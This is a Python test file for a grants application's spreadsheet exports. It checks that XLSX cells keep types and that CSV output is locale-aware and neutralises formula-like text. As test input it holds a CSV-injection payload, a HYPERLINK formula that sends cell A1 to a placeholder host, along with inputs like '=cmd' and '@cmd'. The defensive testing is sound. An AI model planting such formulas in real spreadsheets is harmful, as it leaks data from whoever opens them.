"""Spreadsheet exports (grants/core/spreadsheets.py): in XLSX numbers are numbers, dates are
dates, and text a spreadsheet could run as a formula is a text cell shown exactly as typed (no
apostrophe); in CSV a Polish spreadsheet reads amounts as numbers (semicolons, decimal comma,
UTF-8 with a BOM), an English one with commas and a decimal point, and formula-like text is
neutralised."""

import csv
import datetime as dt
import io
from decimal import Decimal as D

import pytest
from openpyxl import Workbook, load_workbook

from grants.core.spreadsheets import csv_bytes, neutralise, table_xlsx, write_table

pytestmark = pytest.mark.pure

EVIL = '=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")'
WARSAW_NOON = dt.datetime(2026, 12, 24, 11, 0, tzinfo=dt.UTC)  # 12:00 in Warsaw


@pytest.mark.parametrize(("value", "expected"), [
    ("=SUM(A1)", "'=SUM(A1)"), ("+48 123", "'+48 123"), ("-1", "'-1"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Stowarzyszenie", "Stowarzyszenie"), (12, 12),
    (None, None), (D("-5"), D("-5")),
])
def test_neutralise_for_csv(value, expected):
    assert neutralise(value) == expected


ROWS = [
    {"Organizacja": EVIL, "Uwagi": "+48 123 456 789", "Kto": "@Wiktor", "Zmiana": "-10 %",
     "Kwota (zł)": D("1234.56"), "Ujemna": D("-5.00"), "Miejsce": 1,
     "Termin": dt.date(2026, 12, 24), "Zgłoszono": WARSAW_NOON, "Puste": None},
    {"Organizacja": "Fundacja „Przystań”", "Uwagi": "", "Kto": "x", "Zmiana": "",
     "Kwota (zł)": D("13000"), "Ujemna": D("0"), "Miejsce": 2,
     "Termin": dt.date(2027, 1, 5), "Zgłoszono": WARSAW_NOON, "Puste": None},
]


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_xlsx_formula_like_text_is_a_text_cell_without_an_apostrophe():
    ws = _sheet(table_xlsx("Arkusz", ROWS))
    assert [c.value for c in ws[2]][:4] == [EVIL, "+48 123 456 789", "@Wiktor", "-10 %"]
    for cell in ws[2][:4]:
        assert cell.data_type == "s"
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith("'"))


def test_xlsx_numbers_are_numbers_and_dates_are_dates():
    ws = _sheet(table_xlsx("Arkusz", ROWS))
    header = [c.value for c in ws[1]]
    cell = {name: ws.cell(2, header.index(name) + 1) for name in header}
    assert cell["Kwota (zł)"].data_type == "n" and cell["Kwota (zł)"].number_format == "#,##0.00"
    assert D(str(cell["Kwota (zł)"].value)) == D("1234.56")
    assert D(str(cell["Ujemna"].value)) == D("-5")
    assert cell["Miejsce"].value == 1 and cell["Miejsce"].data_type == "n"
    assert cell["Termin"].is_date and cell["Termin"].value.date() == dt.date(2026, 12, 24)
    assert cell["Zgłoszono"].is_date
    assert cell["Zgłoszono"].value == dt.datetime(2026, 12, 24, 12, 0)  # Warsaw time
    assert cell["Puste"].value is None


def test_xlsx_header_of_user_text_is_a_text_cell_too():
    wb = Workbook()
    write_table(wb.active, [{"=1+1": "a", "1. Kryterium": D("2.5")}], decimal_format="0.00")
    ws = _sheet(_save(wb))
    assert [c.value for c in ws[1]] == ["=1+1", "1. Kryterium"]
    assert ws.cell(1, 1).data_type == "s" and ws.cell(2, 2).number_format == "0.00"


def test_xlsx_empty_table_and_characters_xml_cannot_hold():
    ws = _sheet(table_xlsx("Arkusz", [], empty="Brak danych"))
    assert [[c.value for c in r] for r in ws.iter_rows()] == [["Brak danych"]]
    ws = _sheet(table_xlsx("Arkusz", [{"Nazwa": "Fundacja\x01 X\x1f"}]))
    assert ws.cell(2, 1).value == "Fundacja X"


def _save(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _csv(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the Polish letters
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_for_a_polish_spreadsheet():
    rows = _csv(csv_bytes(ROWS, "pl"), ";")
    assert rows[0][:5] == ["Organizacja", "Uwagi", "Kto", "Zmiana", "Kwota (zł)"]
    assert rows[1] == ["'" + EVIL, "'+48 123 456 789", "'@Wiktor", "'-10 %", "1234,56",
                       "-5,00", "1", "24.12.2026", "24.12.2026 12:00", ""]
    assert rows[2][4:6] == ["13000,00", "0,00"]
    assert rows[2][0] == "Fundacja „Przystań”"


def test_csv_for_an_english_spreadsheet():
    rows = _csv(csv_bytes(ROWS, "en"), ",")
    assert rows[1] == ["'" + EVIL, "'+48 123 456 789", "'@Wiktor", "'-10 %", "1234.56",
                       "-5.00", "1", "2026-12-24", "2026-12-24 12:00", ""]


def test_csv_header_from_user_text_is_neutralised():
    rows = _csv(csv_bytes([{"=cmd": "x"}], "pl"), ";")
    assert rows == [["'=cmd"], ["x"]]
